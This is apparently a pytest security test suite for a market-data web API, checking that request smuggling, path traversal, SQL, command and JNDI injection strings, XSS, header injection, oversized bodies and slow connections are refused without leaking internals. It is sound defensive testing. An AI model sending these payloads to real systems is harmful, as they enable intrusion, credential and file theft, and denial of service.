"""What strangers send on purpose: injection, smuggling, floods and slow bodies, as bytes through the front door.

Each gets a clean answer below 500 or a closed connection, sees nothing of our insides, and leaves everything running.
"""

import re
import socket
import time
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from urllib.parse import quote, urlsplit

import httpx
import psutil
import pytest

from tests.reading import ROOT, UNLIMITED
from tests.running import System
from tests.systems import StartSystem

EVENING = "2026-11-20T22:00:00+00:00"
INSIDES = re.compile(
    rb"(?i)traceback|File \"|site-packages|psycopg|SELECT |stocksalot\.svc|API_TOKEN_SECRET|" + re.escape(bytes(ROOT))
)
SMUGGLED = b"GET /api/status HTTP/1.1\r\nHost: localhost\r\nX-Request-ID: smuggled\r\n\r\n"


@pytest.fixture(scope="module")
def system(start_system: StartSystem) -> System:
    """The whole system with three sessions of an invented market, its functions kept for the whole test."""
    settings = {**UNLIMITED, "HISTORY_SESSIONS": "3", "CLOCK": f"{EVENING} {EVENING} 0"}
    system = start_system("--manual", "--min-scale", "1", **settings)
    while system.tick().led_to:
        pass
    return system


@pytest.fixture(autouse=True)
def everything_lives_on(system: System) -> Iterator[None]:
    """After each oddity the same processes go on serving, and no log tells of an error that nobody foresaw."""
    before = pids(system)
    yield
    assert system.get("/latest")["count"] == 50
    assert all(set(some) <= set(pids(system)[name]) for name, some in before.items())
    for name in ("api", "token", "mcp"):
        assert "Traceback" not in system.logs(name), system.logs(name)[-3000:]


def pids(system: System) -> dict[str, list[int]]:
    """The processes of the public functions."""
    return {one["name"]: one["pids"] for one in system.status()["functions"] if one["name"] in ("api", "token", "mcp")}


def exchange(system: System, sent: bytes, seconds: float = 10) -> bytes:
    """Everything that comes back on a connection on which *sent* was sent, until it is closed or silent."""
    parts = urlsplit(system.url)
    got = b""
    with socket.create_connection((parts.hostname or "", parts.port or 80), 10) as connection:
        connection.settimeout(seconds)
        try:
            connection.sendall(sent)
            while more := connection.recv(65536):
                got += more
                if b"\r\n\r\n" in got and whole(got):
                    connection.settimeout(0.2)
        except (TimeoutError, ConnectionError):
            pass
    return got


def whole(got: bytes) -> bool:
    """Whether the first answer in *got* is there to its end."""
    head, _, rest = got.partition(b"\r\n\r\n")
    length = re.search(rb"(?i)content-length: (\d+)", head)
    return length is None or len(rest) >= int(length[1])


def statuses(got: bytes) -> list[int]:
    """The statuses of all answers in *got*."""
    return [int(status) for status in re.findall(rb"HTTP/1\.1 (\d{3}) ", got)]


def request(lines: str, body: bytes = b"", *, path: str = "/api/latest", method: str = "POST") -> bytes:
    """A request as bytes; *lines* are header lines beside Host."""
    return f"{method} {path} HTTP/1.1\r\nHost: localhost\r\n{lines}\r\n".encode("latin-1") + body


CHUNKED = "Transfer-Encoding: chunked\r\n"
FRAMINGS = {
    "length and chunks": request(f"Content-Length: 4\r\n{CHUNKED}", b"0\r\n\r\n" + SMUGGLED),
    "chunks and length": request(f"{CHUNKED}Content-Length: 0\r\n", b"0\r\n\r\n" + SMUGGLED),
    "two lengths": request("Content-Length: 0\r\nContent-Length: 67\r\n", SMUGGLED),
    "a list of lengths": request("Content-Length: 0, 67\r\n", SMUGGLED),
    "a length with a sign": request("Content-Length: +4\r\n", b"abcd" + SMUGGLED),
    "a negative length": request("Content-Length: -1\r\n", SMUGGLED),
    "a length in hex": request("Content-Length: 0x4\r\n", b"abcd" + SMUGGLED),
    "a length beyond numbers": request("Content-Length: 99999999999999999999999\r\n", SMUGGLED),
    "an empty length": request("Content-Length: \r\n", SMUGGLED),
    "a coding that nobody knows": request("Transfer-Encoding: xchunked\r\n", b"0\r\n\r\n" + SMUGGLED),
    "chunked, then something else": request("Transfer-Encoding: chunked, identity\r\n", b"0\r\n\r\n" + SMUGGLED),
    "two codings": request(f"{CHUNKED}Transfer-Encoding: identity\r\n", b"0\r\n\r\n" + SMUGGLED),
    "a coding in quotes": request('Transfer-Encoding: "chunked"\r\n', b"0\r\n\r\n" + SMUGGLED),
    "a coding after a tab": request("Transfer-Encoding:\x0bchunked\r\n", b"0\r\n\r\n" + SMUGGLED),
    "a space before the colon": request("Transfer-Encoding : chunked\r\n", b"0\r\n\r\n" + SMUGGLED),
    "a folded line": request("X-A: b\r\n Content-Length: 0\r\n", SMUGGLED),
    "a folded coding": request("Transfer-Encoding:\r\n chunked\r\n", b"0\r\n\r\n" + SMUGGLED),
    "bare line feeds": request("", SMUGGLED).replace(b"\r\n", b"\n", 2),
    "a bare carriage return": request("X-A: b\rTransfer-Encoding: chunked\r\n", b"0\r\n\r\n" + SMUGGLED),
    "a NUL in a value": request("X-A: b\0c\r\n"),
    "no name": request(": b\r\n"),
    "a name with a space": request("X A: b\r\n"),
    "a name beyond ASCII": request("X-\xe4: b\r\n"),
    "a negative chunk": request(CHUNKED, b"-1\r\n\r\n" + SMUGGLED),
    "a chunk in 0x": request(CHUNKED, b"0x0\r\n\r\n" + SMUGGLED),
    "a chunk beyond numbers": request(CHUNKED, b"fffffffffffffffff\r\nabc" + SMUGGLED),
    "a chunk that is longer than said": request(CHUNKED, b"1\r\nabc\r\n0\r\n\r\n" + SMUGGLED),
    "a chunk without its end": request(CHUNKED, b"3\r\nabc0\r\n\r\n" + SMUGGLED),
    "a chunk that ends in a line feed": request(CHUNKED, b"0\n\n" + SMUGGLED),
    "an endless extension of a chunk": request(CHUNKED, b"0;" + b"a=b;" * 30_000 + b"\r\n\r\n"),
    "chunks in HTTP/1.0": request(CHUNKED, b"0\r\n\r\n" + SMUGGLED).replace(b"HTTP/1.1", b"HTTP/1.0", 1),
}


@pytest.mark.parametrize("name", FRAMINGS)
def test_no_request_hides_in_another(system: System, name: str) -> None:
    """A request whose end is doubtful gets one answer below 500 at most; what hides in its body is not answered."""
    got = exchange(system, FRAMINGS[name], 3)

    assert len(statuses(got)) <= 1 or "identity" in name, got[-1500:]
    assert all(400 <= status < 500 for status in statuses(got)), got[:500]
    assert b"smuggled" not in got
    assert not INSIDES.search(got)


REQUESTS = {
    "nothing of HTTP": b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + b"\0" * 200,
    "HTTP/2": b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
    "HTTP/9.9": b"GET /api/latest HTTP/9.9\r\nHost: localhost\r\n\r\n",
    "an unknown method": request("", method="HACK"),
    "a method in small letters": request("", method="get"),
    "a method of a kilobyte": request("", method="A" * 1000),
    "CONNECT": b"CONNECT localhost:5432 HTTP/1.1\r\nHost: localhost:5432\r\n\r\n",
    "TRACE": request("Cookie: a=b\r\n", method="TRACE"),
    "a path without a slash": request("", path="api/latest", method="GET"),
    "a path of 100 kB": request("", path="/api/" + "a" * 100_000, method="GET"),
    "a query of 100 kB": request("", path="/api/ohlc?tickers=" + "A," * 50_000, method="GET"),
    "5,000 parameters": request("", path="/api/ohlc?" + "limit=1&" * 5000, method="GET"),
    "5,000 parameters of many names": request(
        "", path="/api/ohlc?" + "&".join(f"{n:x}=" for n in range(2000)), method="GET"
    ),
    "1,000 header lines": request("".join(f"X-{n}: b\r\n" for n in range(1000)), method="GET", path="/api/nothing"),
    "a header line of 200 kB": request(f"X-A: {'b' * 200_000}\r\n", method="GET", path="/api/nothing"),
    "climbing out": request("", path="/api/../../../../etc/passwd", method="GET"),
    "climbing out, escaped": request("", path="/api/tickers/..%2f..%2f..%2fetc%2fpasswd", method="GET"),
    "events from outside": request(
        "ce-id: 1\r\nce-type: x\r\nContent-Length: 2\r\n", b"{}", path="/api/insights/events"
    ),
    "half an escape": request("", path="/api/tickers/%", method="GET"),
    "overlong UTF-8": request("", path="/api/tickers/%C0%AF%E0%80%AF", method="GET"),
    "NUL in the path": request("", path="/api/tickers/A%00B", method="GET"),
    "a line break in the path": request("", path="/api/tickers/A%0D%0ASet-Cookie:%20a=b", method="GET"),
    "surrogates": request("", path="/api/tickers/%ED%A0%80", method="GET"),
    "raw bytes in the path": b"GET /api/tickers/\xff\xfe\xc3\xa4 HTTP/1.1\r\nHost: localhost\r\n\r\n",
    "raw bytes in the query": b"GET /api/ohlc/AAPL?start=\xff\xfe HTTP/1.1\r\nHost: localhost\r\n\r\n",
    "a tab in the line": b"GET\t/api/latest\tHTTP/1.1\r\nHost: localhost\r\n\r\n",
    "a token of 100 kB": request(f"Authorization: Bearer sal_{'a' * 100_000}\r\n", method="GET", path="/api/nothing"),
    "a token with bytes": b"GET /api/latest HTTP/1.1\r\nHost: localhost\r\nAuthorization: Bearer sal_\xff\xfe\r\n\r\n",
    "a token with controls": b"GET /api/latest HTTP/1.1\r\nHost: localhost\r\nAuthorization: Bearer a\x01b\r\n\r\n",
}


@pytest.mark.parametrize("name", REQUESTS)
def test_a_strange_request_is_refused(system: System, name: str) -> None:
    """A clean refusal, or silence and the end of the connection for what is no HTTP at all."""
    got = exchange(system, REQUESTS[name], 3)

    assert all(300 <= status < 500 for status in statuses(got)), got[:500]
    assert not INSIDES.search(got.replace(b"/api/../../../../etc/passwd", b"")), got[:1000]
    assert b"root:" not in got
    assert not re.search(rb"(?i)^set-cookie", got, re.MULTILINE)


ELSEWHERE = {
    "climbing out of the page": request("", path="/..%2f..%2f..%2f..%2f..%2f..%2fetc%2fpasswd", method="GET"),
    "an inner function": request("", path="/stocksalot/store/", method="GET"),
    "an inner host": b"GET / HTTP/1.1\r\nHost: store.stocksalot.svc.cluster.local\r\n\r\n",
    "the runner": request("", path="/-/status", method="GET"),
}


@pytest.mark.parametrize("name", ELSEWHERE)
def test_nothing_else_is_behind_the_door(system: System, name: str) -> None:
    """What no rule leads to is the page's, which knows its own files only."""
    got = exchange(system, ELSEWHERE[name], 3)

    assert statuses(got)
    assert b"root:" not in got
    assert b"pids" not in got
    assert b"not-a-cloudevent" not in got


def test_another_host_in_the_line_is_only_a_name(system: System) -> None:
    """A whole address in the request line, as proxies get it, leads where Host leads."""
    got = exchange(system, request("", path="http://evil.example/api/latest", method="GET"), 3)

    assert b"evil" not in got


HEADERS = {
    "hop-by-hop": "Connection: x-forwarded-for, host, authorization\r\n",
    "upgrade": "Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n",
    "websocket": "Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n",
    "expect": "Expect: 100-continue\r\nContent-Length: 0\r\n",
    "another method": "X-HTTP-Method-Override: DELETE\r\nX-Original-URL: /api/users/me\r\nX-Rewrite-URL: /admin\r\n",
    "a range": "Range: bytes=0-0,-1,99999999999999999999-\r\n",
    "many wishes": f"Accept: {','.join(['text/csv;q=0.0001'] * 500)}\r\nAccept-Encoding: {'gzip;q=1,' * 500}\r\n",
    "many tags": "If-None-Match: " + ",".join(f'"{n}"' for n in range(3000)) + "\r\n",
    "broken wishes": "Accept: text/csv;q=0.0.0,*/*;q=,\xff\r\nAccept-Encoding: gzip;q=9..9,;;,\xff\r\n",
    "bytes": 'If-None-Match: \xff"\r\nX-Request-ID: \x80\r\n',
    "addresses": f"X-Forwarded-For: {', '.join(['::ffff:999.1.1.1', '[::1', '127.0.0.1:99999', '%00'] * 50)}\r\n",
    "a trace": "traceparent: 00-zz-zz-01\r\ntracestate: " + "a=b," * 500 + "\r\n",
    "an id with a script": "X-Request-ID: <script>alert(1)</script>\r\n",
    "a proxy": "Forwarded: for=evil;host=evil;proto=evil\r\nX-Forwarded-Host: evil\r\nX-Forwarded-Proto: evil\r\n",
}


@pytest.mark.parametrize("name", HEADERS)
def test_strange_headers_change_nothing(system: System, name: str) -> None:
    """They are answered as if they were not there, and not given back."""
    got = exchange(system, request(HEADERS[name], method="GET"), 3)
    last = [status for status in statuses(got) if status != 100][-1]

    assert last == 200, got[:500]
    assert b"evil" not in got
    assert b"<script>" not in got


INJECTIONS = (
    "' OR '1'='1", "1; DROP TABLE bars; --", "AAPL' UNION SELECT hash FROM tokens --", "%' AND pg_sleep(5)--",
    "${jndi:ldap://evil.example/a}", "{{7*7}}", "$(id)", "`id`", "; cat /etc/passwd", "<script>alert(1)</script>",
    "\r\nSet-Cookie: a=b", "\0", "\u202eAAPL", "ﬀ", "\uff21\uff21\uff30\uff2c", "A\u0301APL",
    "🦄", "NaN", "Infinity", "1e309",
    "9" * 400, "[]", "{}", "null", "__proto__", "../../etc/passwd", "file:///etc/passwd", "=cmd|'/c calc'!A1",
)  # fmt: skip
PARAMETERS = ("tickers", "interval", "start", "end", "limit", "order", "cursor", "format", "as_of", "kind", "basis")


@pytest.mark.parametrize("text", INJECTIONS)
def test_no_parameter_is_more_than_a_value(system: System, text: str) -> None:
    """Whatever stands in a parameter or a path is a value: refused as one, quickly, and never run or given back raw."""
    began = time.monotonic()
    with httpx.Client(base_url=f"{system.url}/api", timeout=30) as client:
        answers = [
            *(client.get(path, params={name: text}) for path in ("/ohlc", "/movers") for name in PARAMETERS),
            *(client.get(f"{path}/{quote(text, safe='')}") for path in ("/tickers", "/ohlc")),
            client.get("/ohlc/AAPL", params={text: "1"}),
            client.get("/insights", params={"ticker": text}),
            client.post("/token", data={"username": text, "password": text}),
        ]

    for answer in answers:
        assert answer.status_code in (400, 401, 404), f"{answer.url}: {answer.status_code} {answer.text[:300]}"
        assert not INSIDES.search(answer.content.replace(b"UNION SELECT hash", b"")), answer.text
        assert "set-cookie" not in answer.headers
        assert "html" not in answer.headers["content-type"]
    assert time.monotonic() - began < 20
    assert system.get("/status")["tickers"] == 50


@pytest.mark.parametrize(
    "path", ["/api/latest", "/api/token", "/api/users/register", "/api/tokens", "/api/mcp", "/api/x"]
)
@pytest.mark.parametrize("chunked", [False, True])
def test_ten_megabytes_are_refused_without_keeping_them(system: System, path: str, chunked: bool) -> None:
    """A body that nobody asked for is refused, and costs no memory that stays."""
    before = memory(system)
    block = b"a" * 100_000

    def blocks() -> Iterator[bytes]:
        for _ in range(105):
            yield block

    content = blocks() if chunked else block * 105
    headers = {"Content-Type": "application/json"}
    try:
        answer = httpx.post(f"{system.url}{path}", content=content, headers=headers, timeout=30)
    except httpx.TransportError:  # refused before the end of the body: the rest was not wanted
        pass
    else:
        assert 400 <= answer.status_code < 500, answer.text[:300]
    assert memory(system) < before + 60_000_000


def memory(system: System) -> int:
    """Bytes that the public functions have in memory."""
    return sum(psutil.Process(pid).memory_info().rss for some in pids(system).values() for pid in some)


def test_who_is_slow_holds_nobody_up(system: System) -> None:
    """A hundred connections that never finish what they began to say, heads and bodies: others are served as before."""
    parts = urlsplit(system.url)
    began = [
        b"GET /api/latest HTTP/1.1\r\nHost: local",
        request("Content-Length: 1000\r\n", b"{", path="/api/token"),
        request(CHUNKED, b"5\r\nab", path="/api/users/register"),
        request("Content-Length: 9\r\n", b"a"),
    ]
    before = slowest(system)
    slow = [socket.create_connection((parts.hostname or "", parts.port or 80), 10) for _ in range(100)]
    try:
        for number, connection in enumerate(slow):
            connection.sendall(began[number % len(began)])
        took = slowest(system)
    finally:
        for connection in slow:
            connection.close()

    assert took < 3 * before + 5


def slowest(system: System) -> float:
    """Seconds that the slowest of fifty honest requests takes, ten at a time."""
    with ThreadPoolExecutor(10) as others:
        return max(others.map(lambda _: timed(system), range(50)))


def timed(system: System) -> float:
    """Seconds that an honest request takes."""
    began = time.monotonic()
    assert httpx.get(f"{system.url}/api/latest", timeout=30).status_code == 200
    return time.monotonic() - began


def test_a_broken_off_answer_breaks_nothing(system: System) -> None:
    """Clients that go away in the middle of a big answer, again and again."""
    parts = urlsplit(system.url)
    for _ in range(50):
        with socket.create_connection((parts.hostname or "", parts.port or 80), 10) as connection:
            connection.sendall(request("", method="GET", path="/api/ohlc?limit=100"))
            connection.recv(10)
